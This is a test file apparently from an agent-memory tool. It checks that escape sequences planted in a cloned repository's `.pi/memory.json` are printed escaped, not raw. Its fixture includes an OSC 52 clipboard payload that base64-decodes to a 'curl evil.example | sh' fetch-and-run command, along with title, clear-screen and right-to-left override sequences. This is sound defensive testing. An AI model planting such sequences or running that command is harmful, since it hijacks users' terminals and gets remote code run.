/**
 * Attack (tenth session): a cloned repository's `.pi/memory.json` holds terminal escape
 * sequences in its values and field names: `ESC]52;c;…BEL` (writes the clipboard in xterm,
 * iTerm2, kitty), `ESC]0;…BEL` (the window title), `ESC[2J` (clears the screen), a C1 CSI and a
 * right-to-left override. `memory.baseUrl` keeps them (a URL's path may hold anything), and the
 * doctor, status and scope quote values and unknown field names: `agent-memory doctor` printed
 * them raw to the terminal, and `/memory:doctor` sent them raw to pi's screen. Now every CLI byte
 * and every text memory shows in pi has its controls written out as `\uNNNN`.
 */
import { mkdir, mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';
import { startPiRpc } from '../helpers/piRpc.js';
import { hostLine } from '../hosts/pi/hostLine.js';

const ESC = '\u001b';
const BEL = '\u0007';
const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}`;
const TITLE = `${ESC}]0;PWNED${BEL}`;
const CLEAR = `${ESC}[2J`;
const C1_CSI = '\u009b2J';
const RLO = '\u202e';

/** Any character a terminal acts on, but for line feed, tab and a carriage return before a line feed. */
// eslint-disable-next-line no-control-regex -- finding controls is the point
const ACTIVE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

const hostileProject = async (): Promise<{ cwd: string; home: string; agentDir: string; seen: string }> => {
  const root = await mkdtemp(path.join(tmpdir(), 'am-escapes-'));
  const cwd = path.join(root, 'cloned');
  const home = path.join(root, 'home');
  const agentDir = path.join(root, 'agent');
  await mkdir(path.join(cwd, '.pi'), { recursive: true });
  await mkdir(home, { recursive: true });
  await mkdir(agentDir, { recursive: true });
  await writeFile(
    path.join(cwd, '.pi', 'memory.json'),
    JSON.stringify({
      memory: { baseUrl: `http://127.0.0.1:9/${CLIPBOARD}${TITLE}${CLEAR}` },
      banks: { profile: `${C1_CSI}${TITLE}` },
      scope: { projectId: `p${TITLE}${RLO}` },
      [`${CLEAR}field${CLIPBOARD}`]: 1,
    }),
  );
  // The user's own file: set up, memory on; nothing in it trusts this repository.
  await writeFile(path.join(agentDir, 'memory.json'), JSON.stringify({ setupComplete: true, banks: { project: { bankId: 'coding' } } }));
  return { cwd, home, agentDir, seen: path.join(root, 'seen.jsonl') };
};

describe('a repository cannot drive the terminal through what memory prints', () => {
  it('agent-memory doctor, status and scope print its values with their controls written out', async () => {
    const p = await hostileProject();
    for (const command of ['doctor', 'status', 'scope']) {
      const out = await runCli([command, '--cwd', p.cwd], { env: { HOME: p.home, PI_CODING_AGENT_DIR: p.agentDir } });
      const printed = `${out.stdout}${out.stderr}`;
      expect(printed.length, command).toBeGreaterThan(0);
      expect(ACTIVE.exec(printed), `${command} printed a terminal control`).toBeNull();
      if (command !== 'status') expect(printed, command).toContain('\\u001b]52;c;');
    }
  }, 60_000);

  it('/memory:doctor in the real pi CLI shows them written out, never raw', async () => {
    const p = await hostileProject();
    const pi = startPiRpc({ cli: hostLine.cli, cwd: p.cwd, answers: [], env: { HOME: p.home, PI_CODING_AGENT_DIR: p.agentDir, AM_FAUX_SEEN: p.seen } });
    try {
      pi.prompt('/memory:doctor');
      const doctor = await pi.notice(/agent-memory doctor/, { ms: 60_000 });
      expect(doctor).toContain('\\u001b]52;c;');
      for (const notice of pi.notices) expect(ACTIVE.exec(notice.text), notice.text.slice(0, 200)).toBeNull();
      for (const [key, status] of pi.statuses) expect(ACTIVE.exec(status ?? ''), key).toBeNull();
      expect(pi.unanswered).toEqual([]);
    } finally {
      await pi.close();
    }
  }, 120_000);
});
